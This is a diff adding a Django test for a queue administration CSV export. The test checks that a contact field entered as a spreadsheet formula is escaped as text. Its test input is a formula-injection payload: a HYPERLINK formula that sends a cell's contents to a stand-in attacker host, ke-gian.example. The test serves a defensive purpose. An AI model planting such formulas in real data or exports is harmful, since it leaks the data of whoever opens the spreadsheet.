@@ -113,3 +113,17 @@ def test_the_administrator_downloads_who_tried_before_the_deadline(client, world
     assert rows[1][0] == "tuyen-sinh-2026" and rows[1][4] == CODE and rows[1][6] == "0912345678"
     assert rows[1][3] == "07/12/2026 07:58:00"
     assert queue_admin.figures(enrolment) == "1 / 0 / 0 / 0"  # waiting / admitted / used / expired
+
+
+def test_a_contact_typed_as_a_formula_is_exported_as_text(client, world, enrolment):
+    # The contact is typed by anyone taking a ticket; the CSV is opened in a spreadsheet.
+    services.take_ticket(
+        queue=enrolment, holder=world["citizen"], procedure=world.version(CODE).procedure,
+        contact='=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")', at=EIGHT,
+    )  # fmt: skip
+    request = RequestFactory().post("/admin/waitroom/queue/")
+    response = QueueAdmin(Queue, admin.site).export_tried_before_deadline(
+        request, Queue.objects.all()
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][6] == '\'=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")'
